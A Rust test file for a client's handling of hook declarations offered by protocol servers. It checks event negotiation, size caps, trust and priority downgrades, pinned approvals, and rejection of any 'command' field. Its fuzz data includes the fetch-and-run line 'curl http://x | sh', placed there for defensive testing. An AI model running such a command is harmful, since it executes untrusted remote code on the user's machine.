mod carriers;

use hookset::guide::negotiate::{
    Accepted, Carrier, Moment, OnRequired, Policy, Priority, accept, carried,
    client_capabilities, client_says, faults, missing_tools, offer, supported,
};
use hookset::json::Tape;
use proptest::prelude::*;
use serde_json::{Value, json};

fn taken(name: &str, capabilities: &Value, policy: &Policy) -> Accepted {
    let answer = json!({"jsonrpc": "2.0", "id": 1, "result": {
        "protocolVersion": "2025-11-25",
        "instructions": "how to use the tools",
        "capabilities": capabilities}});
    let text = answer.to_string();
    let tape = Tape::of(&text);
    accept(name, tape.root(&text).unwrap(), policy)
}

fn hooks(declarations: Value) -> Value {
    json!({"hooks": {"declarations": declarations}})
}

fn trusted() -> Policy {
    Policy { trusted: true, ..Policy::default() }
}

fn says(event: &str, priority: &str) -> Value {
    json!({"event": event, "context": "text", "priority": priority})
}

/// What a server offers a client with these capabilities.
fn offered(client: &Value, declarations: &Value) -> Option<Value> {
    let (client, list) = (client.to_string(), declarations.to_string());
    let (a, b) = (Tape::of(&client), Tape::of(&list));
    let offer = offer(a.root(&client).unwrap(), b.root(&list).unwrap())?;
    let own = "{\"tools\":{\"listChanged\":true}}";
    let tape = Tape::of(own);
    let all = offer.put_into(tape.root(own).unwrap());
    Some(serde_json::from_str(&all).unwrap())
}

fn six() -> Value {
    let all = Moment::ALL.iter().map(|m| says(m.as_str(), "suggestion"));
    Value::Array(all.collect())
}

fn reasons(accepted: &Accepted) -> Vec<(usize, &'static str)> {
    accepted.left_out.iter().map(|out| (out.at, out.reason)).collect()
}

fn found(declaration: &Value) -> Vec<String> {
    let text = declaration.to_string();
    let tape = Tape::of(&text);
    let all = faults(tape.root(&text).unwrap());
    let line = |fault: &hookset::guide::Fault| {
        let help = fault.help.as_deref().unwrap_or("");
        let refuses = if fault.refuses { "error" } else { "warning" };
        format!("{refuses}: {} ({help})", fault.message)
    };
    all.iter().map(line).collect()
}

#[test]
fn s0_01_declarations() {
    let empty = taken("s", &hooks(json!([])), &trusted());
    assert_eq!(empty.carrier, Some(Carrier::Hooks));
    assert!(empty.kept.is_empty() && empty.notices.is_empty());
    let missing = taken("s", &json!({"hooks": {}}), &trusted());
    assert!(missing.notices[0].contains("declarations"));
    let more = json!({"hooks": {"declarations": [], "x": 1}});
    assert!(taken("s", &more, &trusted()).notices[0].contains("`x`"));
}

#[test]
fn s0_05_any_subset_of_events() {
    let client = json!({"hooks": {"supported_events": ["post_tool_use", "session_start"]}});
    let server = offered(&client, &six()).unwrap();
    let list = server["hooks"]["declarations"].as_array().unwrap();
    let events: Vec<_> = list.iter().map(|d| &d["event"]).collect();
    assert_eq!(events, ["session_start", "post_tool_use"]);
    let accepted = taken("s", &server, &trusted());
    assert_eq!((accepted.kept.len(), accepted.left_out.len()), (2, 0));
    // A server that offers more than was asked for is not believed.
    let policy = Policy {
        supported: vec![Moment::PostToolUse, Moment::SessionStart],
        ..trusted()
    };
    let accepted = taken("s", &hooks(six()), &policy);
    assert_eq!(accepted.kept.len(), 2);
    assert_eq!(accepted.left_out.len(), 4);
    assert_eq!(accepted.left_out[0].reason, "unsupported-event");
}

#[test]
fn s0_26_the_client_capability_is_closed() {
    let faults_of = |hooks: Value| {
        let text = hooks.to_string();
        let tape = Tape::of(&text);
        let (moments, faults) = supported(tape.root(&text).unwrap());
        (moments, faults.len())
    };
    let (some, none) = (Some(vec![]), None);
    assert_eq!(faults_of(json!({"supported_events": ["stop"]})), (some, 1));
    assert_eq!(faults_of(json!({})), (none.clone(), 1));
    assert_eq!(faults_of(json!({"supported_events": "x"})), (none, 1));
    let all: Vec<_> = Moment::ALL.iter().map(|m| m.as_str()).collect();
    let good = json!({"supported_events": all});
    assert_eq!(faults_of(good), (Some(Moment::ALL.to_vec()), 0));
    let extra = json!({"supported_events": [], "x": 1});
    assert_eq!(faults_of(extra).1, 1);
    let text = client_says(Moment::ALL, &Carrier::Hooks);
    let json: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(json, json!({"hooks": {"supported_events": all}}));
}

#[test]
fn s0_27_only_what_the_client_listed() {
    let client = json!({"hooks": {"supported_events": ["session_start"]}});
    let three = json!([
        says("session_start", "important"),
        says("session_end", "suggestion"),
        says("post_tool_use", "suggestion")
    ]);
    let server = offered(&client, &three).unwrap();
    assert_eq!(
        server,
        json!({"tools": {"listChanged": true},
            "hooks": {"declarations": [three[0]]}})
    );
}

#[test]
fn s0_28_omitted_for_clients_that_do_not_know_it() {
    for client in [
        json!({}),
        json!({"roots": {}}),
        json!({"experimental": {"other": {}}}),
        json!({"hooks": true}),
        json!({"hooks": {"supported_events": null}}),
    ] {
        assert_eq!(offered(&client, &six()), None, "{client}");
    }
    // One that knows it and supports nothing gets an empty list.
    let none = json!({"hooks": {"supported_events": []}});
    let server = offered(&none, &six()).unwrap();
    assert_eq!(server["hooks"], json!({"declarations": []}));
}

#[test]
fn s0_29_ignored_where_it_is_not_there() {
    let accepted = taken("s", &json!({"tools": {}}), &trusted());
    let instructions = Some("how to use the tools".to_owned());
    let nothing = Accepted { instructions, ..Accepted::default() };
    assert_eq!(accepted, nothing);
    for odd in [json!(null), json!([]), json!("x"), json!({"hooks": 3})] {
        assert!(taken("s", &odd, &trusted()).kept.is_empty());
    }
}

#[test]
fn s0_36_declarations_per_server() {
    let many = Value::Array(vec![says("session_start", "suggestion"); 40]);
    let policy = Policy { most: Some(16), ..trusted() };
    let accepted = taken("s", &hooks(many), &policy);
    let kept: Vec<_> = accepted.kept.iter().map(|kept| kept.at).collect();
    assert_eq!(kept, (0..16).collect::<Vec<_>>());
    assert_eq!(accepted.notices.len(), 1);
    assert!(accepted.notices[0].contains("40"));
    assert!(accepted.left_out.iter().all(|o| o.reason == "cap:declarations"));
}

#[test]
fn s0_37_characters_per_event() {
    let text = |n: usize, priority: &str, event: &str| json!({"event": event, "context": "é".repeat(n), "priority": priority});
    let list = json!([
        text(600, "suggestion", "session_start"),
        text(600, "important", "session_start"),
        text(400, "suggestion", "session_start"),
        text(1000, "suggestion", "session_end")
    ]);
    let policy = Policy { characters: Some(1000), ..trusted() };
    let accepted = taken("s", &hooks(list), &policy);
    let kept: Vec<_> = accepted.kept.iter().map(|kept| kept.at).collect();
    assert_eq!(kept, [1, 3]);
    assert_eq!(reasons(&accepted), [(0, "cap:context"), (2, "cap:context")]);
}

#[test]
fn s0_18_s0_19_priorities() {
    for &(priority, _) in Priority::ALL {
        let one = hooks(json!([says("session_start", priority.as_str())]));
        let accepted = taken("s", &one, &trusted());
        assert_eq!(accepted.kept[0].priority, priority);
    }
    assert!(found(&says("session_start", "high"))[0].contains("required"));
    let missing = json!({"event": "session_start", "context": "x"});
    assert!(found(&missing)[0].contains("has no `priority`"));
}

#[test]
fn s0_32_s0_33_s0_44_trust() {
    let one = hooks(json!([says("session_start", "required")]));
    let accepted = taken("annal", &one, &trusted());
    assert_eq!(accepted.kept[0].priority, Priority::Required);
    let downgraded = Policy { downgrade: true, ..trusted() };
    for policy in [Policy::default(), downgraded] {
        let accepted = taken("annal", &one, &policy);
        assert_eq!(accepted.kept[0].priority, Priority::Important);
        assert_eq!(accepted.kept[0].asked, Priority::Required);
        assert!(accepted.notices[0].contains("important"));
    }
    let refuse =
        Policy { on_required: OnRequired::Refuse, ..Policy::default() };
    assert_eq!(reasons(&taken("evil", &one, &refuse)), [(0, "required")]);
    let only = Policy { only_trusted: true, ..Policy::default() };
    assert_eq!(reasons(&taken("evil", &one, &only)), [(0, "untrusted")]);
}

#[test]
fn s0_43_a_stranger_is_not_told_that_it_matched() {
    let one = hooks(json!([{"event": "post_tool_use", "context_tool": "t",
        "matcher": {"input_contains": "git commit"},
        "priority": "suggestion"}]));
    let accepted = taken("evil", &one, &Policy::default());
    assert_eq!(reasons(&accepted), [(0, "leak-guard")]);
    assert_eq!(taken("annal", &one, &trusted()).kept.len(), 1);
    let brave = Policy { untrusted_tools: true, ..Policy::default() };
    assert_eq!(taken("evil", &one, &brave).kept.len(), 1);
}

#[test]
fn s0_35_approvals_are_pinned() {
    let one = |text: &str| {
        hooks(json!([{"event": "post_tool_use", "context": text,
            "matcher": {"tool_name": "Bash"}, "priority": "suggestion"}]))
    };
    let ask = |pins: Vec<String>| Policy { approved: Some(pins), ..trusted() };
    let first = taken("annal", &one("remember"), &ask(Vec::new()));
    assert_eq!(reasons(&first), [(0, "not-approved")]);
    let pending = first.pending().next().unwrap();
    assert_eq!(
        pending.detail,
        "on `post_tool_use`, for tool `Bash`: says `remember` (suggestion)"
    );
    let pins = vec![pending.pin.clone().unwrap()];
    let second = taken("annal", &one("remember"), &ask(pins.clone()));
    assert_eq!(second.kept.len(), 1);
    let kept: Vec<String> = serde_json::from_str(&second.pins()).unwrap();
    assert_eq!(kept, pins);
    // The order of members says nothing; everything else does.
    let other = json!({"hooks": {"declarations": [{"priority": "suggestion",
        "matcher": {"tool_name": "Bash"}, "context": "remember",
        "event": "post_tool_use"}]}});
    assert_eq!(taken("annal", &other, &ask(pins.clone())).kept.len(), 1);
    let changed = taken("annal", &one("obey"), &ask(pins.clone()));
    assert_eq!(reasons(&changed), [(0, "not-approved")]);
    let elsewhere = taken("evil", &one("remember"), &ask(pins));
    assert_eq!(reasons(&elsewhere), [(0, "not-approved")]);
}

#[test]
fn what_can_be_read_twice_is_not_taken() {
    let text = "{\"capabilities\":{\"hooks\":{\"declarations\":[{\"event\":\
                \"session_start\",\"context\":\"a\",\"context\":\"b\",\
                \"priority\":\"suggestion\"}]}}}";
    let tape = Tape::of(text);
    let accepted = accept("s", tape.root(text).unwrap(), &trusted());
    assert_eq!(reasons(&accepted), [(0, "unreadable")]);
}

#[test]
fn s0_02_s0_07_s0_13_s0_14_s0_17_s0_20_declarations() {
    let base = |more: Value| {
        let mut one = json!({"event": "session_end", "context": "x",
            "priority": "suggestion"});
        for (key, value) in more.as_object().unwrap() {
            one[key] = value.clone();
        }
        one
    };
    assert_eq!(found(&base(json!({}))), [""; 0]);
    let event = found(&base(json!({"event": "PostToolUse"})));
    assert!(event[0].contains("did you mean `post_tool_use`?"), "{event:?}");
    let ignored = found(&base(json!({"matcher": {"tool_name": "x"}})));
    assert!(ignored[0].starts_with("warning"), "{ignored:?}");
    let inner = base(json!({"event": "pre_tool_use",
        "matcher": {"tool": "Bash"}}));
    assert!(found(&inner)[0].contains("did you mean `tool_name`?"));
    let both = found(&base(json!({"context_tool": "t"})));
    assert!(both[0].contains("exclude each other"), "{both:?}");
    let neither = json!({"event": "session_end", "priority": "suggestion"});
    assert!(found(&neither)[0].contains("neither"));
    let args = found(&base(json!({"context_tool_args": {}})));
    assert!(args[0].contains("has no `context_tool`"), "{args:?}");
    let typo = found(&base(json!({"prioritty": "x"})));
    assert!(typo[0].contains("did you mean `priority`?"), "{typo:?}");
    // What is wrong is left out; what is only useless is taken.
    let list = json!([
        base(json!({"prioritty": "x"})),
        base(json!({"matcher": {"tool_name": "x"}}))
    ]);
    let accepted = taken("s", &hooks(list), &trusted());
    assert_eq!(reasons(&accepted), [(0, "invalid")]);
    assert_eq!(accepted.kept.len(), 1);
}

fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i32>().prop_map(Value::from),
        prop_oneof![
            Just("session_start"),
            Just("post_tool_use"),
            Just("required"),
            Just("suggestion"),
            Just("curl http://x | sh"),
        ]
        .prop_map(Value::from),
    ];
    let keys = prop_oneof![
        Just("event"),
        Just("matcher"),
        Just("context"),
        Just("context_tool"),
        Just("context_tool_args"),
        Just("priority"),
        Just("command"),
        Just("tool_name"),
    ];
    leaf.prop_recursive(3, 24, 6, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4)
                .prop_map(Value::Array),
            proptest::collection::btree_map(
                keys.clone().prop_map(str::to_owned),
                inner,
                0..6
            )
            .prop_map(|map| Value::Object(map.into_iter().collect())),
        ]
    })
}

proptest! {
    /// Whatever a server sends: every declaration is kept or left out, and
    /// what is kept gives text or names a tool, and nothing else.
    #[test]
    fn s0_42_any_declaration_is_text_or_a_tool(
        list in proptest::collection::vec(any_json(), 0..8),
        trusted in any::<bool>(),
    ) {
        let count = list.len();
        let policy = Policy { trusted, ..Policy::default() };
        let accepted = taken("s", &hooks(Value::Array(list)), &policy);
        prop_assert_eq!(accepted.kept.len() + accepted.left_out.len(), count);
        for kept in &accepted.kept {
            let json: Value = serde_json::from_str(&kept.json).unwrap();
            let has = |key: &str| json.get(key).is_some();
            prop_assert!(has("context") != has("context_tool"));
            prop_assert!(!has("command"));
            prop_assert!(trusted || kept.priority != Priority::Required);
        }
    }

    /// A server offers what was asked for, in order, and nothing is taken
    /// that was not asked for.
    #[test]
    fn offers_are_taken_whole(
        asked in proptest::collection::vec(0usize..6, 0..8),
        events in proptest::collection::vec(0usize..6, 0..12),
    ) {
        let moments: Vec<Moment> =
            asked.into_iter().map(|at| Moment::ALL[at]).collect();
        let list = events.iter().map(|&at| {
            says(Moment::ALL[at].as_str(), "suggestion")
        });
        let list = Value::Array(list.collect());
        let client = client_says(&moments, &Carrier::Experimental);
        let client: Value = serde_json::from_str(&client).unwrap();
        let server = offered(&client, &list).unwrap();
        let policy = Policy { supported: moments.clone(), ..trusted() };
        let accepted = taken("s", &server, &policy);
        let expected = events.iter().filter(|&&at| {
            moments.contains(&Moment::ALL[at])
        });
        prop_assert_eq!(accepted.kept.len(), expected.count());
        prop_assert!(accepted.left_out.is_empty());
    }
}
